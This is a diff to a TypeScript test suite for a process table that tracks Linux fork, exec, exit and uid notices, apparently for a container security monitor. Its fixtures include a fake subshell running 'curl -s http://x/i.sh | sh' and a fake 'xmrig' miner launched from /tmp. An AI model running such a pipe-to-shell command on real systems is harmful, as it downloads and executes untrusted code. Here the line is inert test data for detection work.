@@ -419,8 +419,14 @@ test('applyNow: described notices apply at once, as onNotice would, and wait the
     const orphan = { ...kernel, ppid: 4242 };
     assert.equal(table.applyNow({ ...exec(811), exec: orphan }), undefined);
     assert.equal(table.get(811), undefined);
-    // A fork the kernel did not describe (the proc connector's) is declined too.
-    assert.equal(table.applyNow(fork(812, 700)), undefined);
+    // A fork the kernel did not describe (the proc connector's) of a parent the table has applies
+    // at once as the parent's image, its read put off (proc-fork.ts); of an unknown parent it is declined.
+    assert.equal(table.applyNow(fork(812, 700)), null);
+    assert.equal(table.get(812)?.parent, table.get(700));
+    assert.equal(table.get(812)?.name, table.get(700)?.name);
+    assert.equal(table.applyNow(fork(813, 4243)), undefined);
+    assert.equal(table.get(813), undefined);
+    await table.forksRead();
   } finally {
     table.close();
     twin.close();
@@ -663,6 +669,9 @@ test('the real /proc: lookup on a miss reads the process; fork notices copy the 
     const t2 = new ProcessTable({ hash: false });
     await t2.onNotice({ kind: 'fork', pid, tid: pid, ppid: process.pid, ts: 1n });
     assert.equal(t2.get(pid)?.parent?.pid, process.pid);
+    // The child neither exec'd nor exited: its read, put off a moment (proc-fork.ts), is made.
+    await t2.forksRead();
+    assert.equal(t2.get(pid)?.parent?.pid, process.pid);
     assert.equal(t2.get(pid)?.start_ts, info?.start_ts, 'the exact start time from /proc, not the notice time');
     t2.close();
   } finally {
@@ -674,4 +683,54 @@ test('the real /proc: lookup on a miss reads the process; fork notices copy the 
 
 test('statLine helper round-trips through the table', () => {
   assert.match(statLine({ pid: 5, comm: 'a b', ppid: 1 }), /^5 \(a b\) S 1 /);
+});
+
+test("proc connector forks: the child's read waits for its exec or exit, and is made only for a child that did neither", async () => {
+  const w = world();
+  const table = fakeTable(w);
+  try {
+    table.seed();
+    const startOf = (ticks: number): bigint => BigInt(FAKE_BTIME) * 1_000_000_000n + BigInt(ticks) * 10_000_000n;
+    // A child that stays its parent's image (a subshell): its own session, group and start time
+    // are read once the wait is over.
+    w.fp.add({ pid: 901, ppid: 700, comm: 'sh', argv: ['sh', '-c', 'curl -s http://x/i.sh | sh'], exe: '/usr/bin/dash', starttime: 400, cgroup: DOCKER_CGROUP, nspid: [901, 9], root: w.ctrRoot, statText: statLine({ pid: 901, comm: 'sh', ppid: 700, starttime: 400, pgrp: 901, session: 77 }) });
+    assert.equal(table.applyNow(fork(901, 700)), null, 'applied at once');
+    assert.equal(table.get(901)?.parent, table.get(700));
+    assert.equal(table.get(901)?.name, 'sh');
+    assert.notEqual(table.get(901)?.start_ts, startOf(400), 'not read yet');
+    await table.forksRead();
+    assert.equal(table.get(901)?.start_ts, startOf(400), 'its exact start time, read');
+    assert.equal(table.get(901)?.sid, 77);
+    assert.equal(table.get(901)?.vpid, 9);
+    assert.equal(table.get(901)?.parent, table.get(700));
+    // A child whose exec arrives during the wait: the exec's read makes its entry, and the
+    // fork's read, which would come after it, is not made over it.
+    w.fp.add({ pid: 902, ppid: 700, comm: 'xmrig', argv: ['./xmrig'], exe: '/tmp/xmrig', starttime: 500, cgroup: DOCKER_CGROUP, nspid: [902, 10], root: w.ctrRoot });
+    assert.equal(table.applyNow(fork(902, 700)), null);
+    const ev = await table.onNotice(exec(902));
+    assert.equal(ev?.proc.name, 'xmrig');
+    const afterExec = table.get(902);
+    await table.forksRead();
+    assert.equal(table.get(902), afterExec, 'the exec entry stays');
+    assert.equal(table.get(902)?.name, 'xmrig');
+    // A child that exited during the wait is not read either: it stays its parent's image.
+    w.fp.add({ pid: 903, ppid: 700, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', starttime: 600, statText: statLine({ pid: 903, comm: 'sh', ppid: 700, starttime: 600, session: 88 }) });
+    assert.equal(table.applyNow(fork(903, 700)), null);
+    assert.equal(table.applyNow(exit(903)), null);
+    await table.forksRead();
+    assert.notEqual(table.get(903)?.sid, 88);
+    // A child that drops to another user during the wait keeps its own uid through the read.
+    w.fp.add({ pid: 904, ppid: 700, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', starttime: 700, uid: 1000, gid: 1000, cgroup: DOCKER_CGROUP, root: w.ctrRoot });
+    assert.equal(table.applyNow(fork(904, 700)), null);
+    assert.equal(table.get(904)?.uid, 0);
+    assert.equal(table.applyNow({ kind: 'uid', pid: 904, tid: 904, ruid: 1000, euid: 1000, ts: 1n }), null);
+    await table.forksRead();
+    assert.equal(table.get(904)?.start_ts, startOf(700), 'read');
+    assert.equal(table.get(904)?.uid, 1000);
+    assert.equal(table.get(904)?.user, 'miner', "named in the container's passwd");
+    assert.equal(table.stats.forks, 4);
+  } finally {
+    table.close();
+    w.cleanup();
+  }
 });
